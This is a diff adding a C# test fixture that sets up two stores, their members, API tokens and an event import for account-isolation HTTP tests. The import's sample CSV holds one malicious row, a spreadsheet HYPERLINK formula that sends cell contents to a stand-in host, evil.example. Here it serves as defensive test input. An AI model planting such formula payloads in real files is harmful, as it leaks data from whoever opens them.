@@ -1,0 +1,117 @@
+using FunnelInsight.Core.Accounts;
+using FunnelInsight.Core.Import;
+using FunnelInsight.Core.Storage.Entities;
+using FunnelInsight.Tests.Support;
+
+namespace FunnelInsight.Tests.Web;
+
+/// <summary>
+/// One running app shared by the HTTP tests of accounts: two stores, Alpha (with an owner, an analyst and a
+/// marketer) and Bravo (with its own owner), each with an import that has a bad row, and API tokens.
+/// </summary>
+public sealed class AccountsApp : IAsyncLifetime
+{
+    /// <summary>The collection the HTTP account tests share this app in.</summary>
+    public const string Collection = "accounts app";
+
+    /// <summary>Bravo's secret name: it must never appear in an answer to someone who is not Bravo's member.</summary>
+    public const string BravoName = "Bravo Secret Shop";
+
+    /// <summary>The upload limit the app runs with (small, so the size limit is testable).</summary>
+    public const long MaxUploadBytes = 4096;
+
+    private const string Events = """
+        event_time,event_type,session_id
+        2024-03-01T10:00:00Z,session_start,s1
+        2024-03-01T10:01:00Z,view_item,s1
+        =HYPERLINK("http://evil.example/?leak="&A1),add_to_cart,s1
+        2024-03-01T11:00:00Z,session_start,s2
+        """;
+
+    private TempDatabase? _db;
+    private TestApp? _app;
+
+    public TempDatabase Db => _db!;
+
+    public TestApp App => _app!;
+
+    public int AlphaId { get; private set; }
+
+    public int BravoId { get; private set; }
+
+    public int AlphaImportId { get; private set; }
+
+    public int BravoImportId { get; private set; }
+
+    /// <summary>API tokens by holder: analyst, marketer, owner (Alpha), bravo-owner, revoked (was the analyst's), limited (a member of both, limited to Alpha).</summary>
+    public Dictionary<string, string> Tokens { get; } = [];
+
+    public async Task InitializeAsync()
+    {
+        _db = await TempDatabase.CreateAsync();
+        var alpha = await Db.Stores.GetOrCreateAsync("Alpha Shop");
+        var bravo = await Db.Stores.GetOrCreateAsync(BravoName);
+        (AlphaId, BravoId) = (alpha.Id, bravo.Id);
+        var imports = new ImportService(Db.Database);
+        AlphaImportId = (await imports.ImportAsync(new ImportRequest(AlphaId, ImportKind.Events, Db.WriteFile("alpha.csv", Events)))).ImportId;
+        BravoImportId = (await imports.ImportAsync(new ImportRequest(BravoId, ImportKind.Events, Db.WriteFile("bravo.csv", Events.Replace("s1", "bravo-secret-session", StringComparison.Ordinal))))).ImportId;
+
+        var memberships = new StoreMemberships(Db.Database);
+        var tokens = new ApiTokens(Db.Database);
+        foreach (var (who, store, role) in new[]
+        {
+            ("owner", AlphaId, StoreRole.Owner), ("analyst", AlphaId, StoreRole.Analyst), ("marketer", AlphaId, StoreRole.Marketer),
+            ("locked", AlphaId, StoreRole.Marketer), ("bravo-owner", BravoId, StoreRole.Owner),
+        })
+        {
+            var userId = await TestAccounts.CreateUserAsync(Db, Email(who));
+            await memberships.SetAsync(store, userId, role);
+            Tokens[who] = (await tokens.CreateAsync(userId, who)).Secret;
+        }
+
+        var both = await TestAccounts.CreateUserAsync(Db, Email("both"));
+        await memberships.SetAsync(AlphaId, both, StoreRole.Analyst);
+        await memberships.SetAsync(BravoId, both, StoreRole.Analyst);
+        Tokens["limited"] = (await tokens.CreateAsync(both, "alpha only", AlphaId)).Secret;
+
+        var analystId = (await tokens.AuthenticateAsync(Tokens["analyst"]))!.UserId;
+        var revoked = await tokens.CreateAsync(analystId, "old");
+        await tokens.RevokeAsync(analystId, revoked.Token.Id);
+        Tokens["revoked"] = revoked.Secret;
+
+        _app = await TestApp.StartAsync(Db, new Dictionary<string, string> { ["Uploads__MaxBytes"] = MaxUploadBytes.ToString(System.Globalization.CultureInfo.InvariantCulture) });
+    }
+
+    /// <summary>The e-mail of a test account.</summary>
+    public static string Email(string who) => who + "@shops.test";
+
+    /// <summary>A client signed in as <paramref name="who"/>.</summary>
+    public async Task<HttpClient> SignedInAsync(string who)
+    {
+        var client = App.Client();
+        using var response = await TestAccounts.SignInAsync(client, Email(who));
+        Assert.Equal(System.Net.HttpStatusCode.Redirect, response.StatusCode);
+        return client;
+    }
+
+    /// <summary>A client sending <paramref name="who"/>'s API token.</summary>
+    public HttpClient WithToken(string who)
+    {
+        var client = App.Client();
+        client.DefaultRequestHeaders.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", Tokens[who]);
+        return client;
+    }
+
+    public async Task DisposeAsync()
+    {
+        if (_app is not null)
+        {
+            await _app.DisposeAsync();
+        }
+
+        if (_db is not null)
+        {
+            await _db.DisposeAsync();
+        }
+    }
+}
